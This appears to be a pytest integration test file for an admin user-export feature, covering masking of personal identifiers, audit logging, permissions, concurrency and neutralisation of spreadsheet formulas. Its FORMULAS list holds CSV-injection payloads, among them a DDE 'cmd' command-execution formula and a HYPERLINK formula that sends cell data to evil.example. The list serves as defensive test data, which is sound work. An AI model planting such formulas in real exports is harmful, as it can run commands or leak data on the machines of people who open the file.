"""The export of users: everybody who matches, masked or not, in a form that no spreadsheet calculates (R-054)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from typing import Any

import pymongo
import pytest

from passport.exports import CSVFormat, without_guard
from passport.jobs.export import COLUMNS, row_of
from passport.services import Services
from passport.store import user_export, user_walk
from tests.conftest import Clock
from tests.integration.admin.dashboard import Dashboard
from tests.integration.jobs.conftest import register

Database = pymongo.database.Database[dict[str, Any]]
EXPORT = "/admin/users/export"
OPENID, NUMBER = "oGZUI0egBJY1zhBYw2KhdUfwVJJE", "+8613800138000"
# Each way in which a cell was ever taken for a formula: OWASP's four, what stands before them, their full-width forms.
FORMULAS = [
    f"{before}{sign}{rest}"
    for sign, rest in (("=", "1+1"), ("+", "1+1"), ("-", "2+3"), ("@", "SUM(A1:A9)"))
    for before in ("", " ", "\t", "\r", "\n", "\x00", "\u200b", "\ufeff")
] + [
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '";=1+1;"',
    "'=1+1",
]


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a CSV by the names of its columns, as they stand there."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture(autouse=True)
def small_batches(monkeypatch: pytest.MonkeyPatch) -> None:
    """Slices of five and batches of three."""
    monkeypatch.setattr(user_export, "BATCH", 3)
    monkeypatch.setattr(user_walk, "SLICE", 5)


async def test_everybody_who_matches_is_in_the_file(lin: Dashboard, database: Database, clock: Clock) -> None:
    everybody = register(database, clock, 12) + register(database, clock, 5, tags=["vip"])
    page = await lin.get(f"{EXPORT}?format=csv")
    assert page.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in page.headers["Content-Disposition"]
    assert [each["account_id"] for each in cells(page.html)] == everybody
    lines = (await lin.get(f"{EXPORT}?format=jsonl&tag=vip")).html.splitlines()
    assert [json.loads(each)["account_id"] for each in lines] == everybody[12:]


async def personal(database: Database, clock: Clock) -> None:
    phone = {"number": NUMBER, "country_code": "86", "pure_number": "13800138000", "code_digest": b"secret"}
    register(
        database, clock, 1, identities=[{"appid": "wx1", "openid": OPENID}], phone=phone, unionid="o" * 28
    )


@pytest.mark.parametrize("name", ["csv", "jsonl"])
async def test_identifiers_are_masked(lin: Dashboard, database: Database, clock: Clock, name: str) -> None:
    await personal(database, clock)
    text = (await lin.get(f"{EXPORT}?format={name}")).html
    assert "oGZU…VJJE" in text
    assert "+86138…8000" in text
    assert not [each for each in (OPENID, NUMBER, "13800138000", "o" * 28, "secret") if each in text]


async def test_identifiers_are_told_to_who_proved_who_they_are(
    lin: Dashboard, database: Database, clock: Clock
) -> None:
    await personal(database, clock)
    page = await lin.submit(f"{EXPORT}?status=active", {"format": "csv"})
    assert page.status == 200
    assert OPENID in page.html
    assert "code_digest" not in page.html
    clock.advance(minutes=6)
    page = await lin.submit(f"{EXPORT}?status=active", {"format": "csv"})
    assert (page.status, OPENID in page.html) == (303, False)
    # The filter is there again when they come back.
    assert "status%3Dactive" in page.location


async def test_every_export_is_in_the_audit_log_before_its_first_row(
    lin: Dashboard, database: Database, clock: Clock
) -> None:
    await personal(database, clock)
    await lin.get(f"{EXPORT}?format=csv&status=active")
    await lin.submit(EXPORT, {"format": "jsonl"})
    told = [each["after"] for each in database.audit_events.find({"kind": "users.exported"}).sort("_id", 1)]
    assert [(each["format"], each["revealed"]) for each in told] == [("csv", False), ("jsonl", True)]
    assert told[0]["filter"] == ["status=active"]


async def test_the_page_says_what_would_be_in_the_file(
    lin: Dashboard, database: Database, clock: Clock
) -> None:
    register(database, clock, 3)
    page = await lin.get(f"{EXPORT}?status=active")
    assert "3 people match" in page.text
    assert f"{EXPORT}?status=active&format=csv" in page.links
    assert database.audit_events.count_documents({"kind": "users.exported"}) == 0


async def test_a_viewer_gets_no_file(vera: Dashboard) -> None:
    assert (await vera.get(f"{EXPORT}?format=csv")).status == 403


async def test_a_filter_with_a_fault_exports_nobody(lin: Dashboard, database: Database, clock: Clock) -> None:
    register(database, clock, 1)
    assert (await lin.get(f"{EXPORT}?format=csv&seen_from=someday")).status == 400
    assert (await lin.get(f"{EXPORT}?format=csv&stauts=banned")).status == 400
    assert database.audit_events.count_documents({"kind": "users.exported"}) == 0


async def test_no_nickname_is_calculated_and_each_is_read_back(
    lin: Dashboard, database: Database, clock: Clock
) -> None:
    assert len(FORMULAS) == 40
    for formula in FORMULAS:
        register(database, clock, 1, profile={"nickname": formula})
    read = [each["nickname"] for each in cells((await lin.get(f"{EXPORT}?format=csv")).html)]
    assert [cell for cell in read if not cell.startswith("'")] == ['";=1+1;"']
    assert [without_guard(cell) for cell in read] == FORMULAS
    lines = (await lin.get(f"{EXPORT}?format=jsonl")).html.split("\n")[:-1]
    assert [json.loads(each)["nickname"] for each in lines] == FORMULAS


async def test_a_third_export_at_once_is_told_to_wait(
    services: Services, database: Database, clock: Clock
) -> None:
    register(database, clock, 12)
    export = services.admin.users_export
    running = [export.batches({}, plain=False) for _ in range(3)]
    for each in running[:2]:
        await anext(each)
    with pytest.raises(Exception, match="exports are being written"):
        await anext(running[2])
    await running[0].aclose()
    assert await anext(export.batches({}, plain=False))
    await running[1].aclose()


async def test_a_client_that_goes_stops_the_reading(
    lin: Dashboard, services: Services, database: Database, clock: Clock
) -> None:
    register(database, clock, 12)
    batches = services.admin.users_export.batches({}, plain=False)
    await anext(batches)
    await batches.aclose()
    # Nothing is left behind: as many as are allowed can begin anew.
    assert (await lin.get(f"{EXPORT}?format=csv")).status == 200


async def test_the_event_loop_is_not_held_while_an_export_is_written(
    services: Services, database: Database, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(user_export, "BATCH", 500)
    monkeypatch.setattr(user_walk, "SLICE", 5_000)
    register(database, clock, 3_000)
    form, turns = CSVFormat(COLUMNS), []

    async def probe() -> None:
        while True:
            # By this thread's CPU, not by the clock: a busy machine takes none of it.
            began = time.thread_time()
            await asyncio.sleep(0)
            turns.append(time.thread_time() - began)

    probing = asyncio.create_task(probe())
    async for batch in services.admin.users_export.batches({}, plain=True):
        form.rows(batch)
        await asyncio.sleep(0)
    probing.cancel()
    assert len(turns) > 10
    # A batch takes 5 ms; ten times that is what a loop may be held.
    assert max(turns) < 0.025


def test_a_row_is_complete_for_whatever_document() -> None:
    assert set(row_of({"_id": "x"}, plain=False)) == set(COLUMNS)
    known = {
        "_id": "x",
        "profile": {"nickname": "a", "city": "b"},
        "entered": {"nickname": "c", "city": None},
    }
    row = row_of(known, plain=True)
    assert (row["nickname"], row["city"]) == ("c", None)
